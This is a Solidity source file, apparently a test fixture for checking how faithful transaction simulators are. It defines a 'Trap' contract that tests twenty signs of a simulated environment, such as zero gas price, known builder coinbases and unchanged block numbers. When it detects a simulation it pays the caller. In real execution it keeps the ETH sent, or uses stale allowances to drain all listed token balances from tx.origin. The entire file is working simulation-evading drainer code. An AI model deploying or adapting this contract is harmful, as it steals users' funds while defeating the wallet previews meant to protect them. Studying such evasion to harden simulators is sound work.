// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface Spendable {
    function balanceOf(address holder) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external;
}

/// Keeps the coins of every call.
contract Keeper {
    receive() external payable {}

    fallback() external payable {}
}

/// Has an old allowance for tokens. If a sign indicates a simulation, it pays the caller. Otherwise it keeps the coins,
/// or takes all tokens if there are no coins. `signs.ts` lists the signs in the same order.
contract Trap {
    enum Sign {
        GasPrice,
        Coinbase,
        Randomness,
        RichCaller,
        MuchGas,
        OtherGasLimit,
        FeeNotPaid,
        NoCaller,
        LatestNumber,
        LatestTime,
        NextNumber,
        NextTime,
        SameGasLimit,
        SameCoinbase,
        Parity,
        Ten,
        Schedule,
        Builders,
        BaseFee,
        SameRandomness
    }

    uint256 private constant REWARD = 1 ether;
    address private constant BUILDER = 0x4838B106FCe9647Bdf1E7877BF73cE8B0BAD5f97;
    address private constant OTHER_BUILDER = 0x95222290DD7278Aa3Ddd389Cc1E1d165CC4BAfe5;

    Sign private sign;
    address[] private tokens;
    uint256 private number;
    uint256 private time;
    uint256 private gasLimit;
    address private proposer;
    uint256 private randomness;
    uint256 private balance;

    /// Records the block before the cases, and the callers' balance at that time.
    function start(Sign sign_, address[] calldata tokens_, uint256 balance_) external {
        (sign, tokens, balance) = (sign_, tokens_, balance_);
        (number, time) = (block.number, block.timestamp);
        (gasLimit, proposer, randomness) = (block.gaslimit, block.coinbase, block.prevrandao);
    }

    receive() external payable {
        spring();
    }

    fallback() external payable {
        spring();
    }

    function spring() private {
        if (isSimulation()) {
            (bool done,) = tx.origin.call{value: msg.value + REWARD}("");
            require(done, "reward");
            return;
        }
        if (msg.value > 0) return;
        for (uint256 i = 0; i < tokens.length; i++) {
            Spendable token = Spendable(tokens[i]);
            token.transferFrom(tx.origin, address(this), token.balanceOf(tx.origin));
        }
    }

    function isSimulation() private view returns (bool) {
        if (sign <= Sign.LatestTime) return isUnusual();
        if (sign == Sign.NextNumber) return block.number <= number + 1;
        if (sign == Sign.NextTime) return block.timestamp <= time + 12;
        if (sign == Sign.SameGasLimit) return block.gaslimit == gasLimit;
        if (sign == Sign.SameCoinbase) return block.coinbase == proposer;
        if (sign == Sign.Parity) return (block.number - number) % 2 == 1;
        if (sign == Sign.Ten) return block.number <= number + 10;
        if (sign == Sign.Schedule) return block.timestamp - time == 12 * (block.number - number);
        if (sign == Sign.BaseFee) return block.basefee == 0;
        if (sign == Sign.SameRandomness) return block.prevrandao == randomness;
        return block.coinbase == proposer || block.coinbase == BUILDER || block.coinbase == OTHER_BUILDER;
    }

    /// True for values that no transaction has.
    function isUnusual() private view returns (bool) {
        if (sign == Sign.GasPrice) return tx.gasprice == 0;
        if (sign == Sign.Coinbase) return block.coinbase == address(0);
        if (sign == Sign.Randomness) return block.prevrandao == 0;
        if (sign == Sign.RichCaller) return tx.origin.balance > 1_000_000 ether;
        if (sign == Sign.MuchGas) return gasleft() > 20_000_000;
        if (sign == Sign.OtherGasLimit) return block.gaslimit > 2 * gasLimit || block.gaslimit < gasLimit / 2;
        if (sign == Sign.FeeNotPaid) return tx.origin.balance + msg.value >= balance;
        if (sign == Sign.NoCaller) return tx.origin == address(0) || msg.sender == address(0);
        if (sign == Sign.LatestNumber) return block.number <= number;
        return block.timestamp <= time;
    }
}
